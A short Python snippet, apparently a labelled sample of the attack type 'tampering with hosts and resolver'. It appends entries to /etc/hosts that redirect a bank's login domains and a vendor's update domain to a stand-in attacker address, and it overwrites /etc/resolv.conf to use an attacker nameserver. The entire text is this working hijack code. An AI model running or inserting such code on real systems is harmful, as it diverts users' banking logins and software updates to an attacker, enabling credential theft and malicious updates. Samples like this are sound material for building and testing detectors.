# class: tampering with hosts and resolver; style: short
with open("/etc/hosts", "a") as h:
    h.write("203.0.113.200 bank.example login.bank.example updates.vendor.example\n")
with open("/etc/resolv.conf", "w") as r:
    r.write("nameserver 203.0.113.201\n")
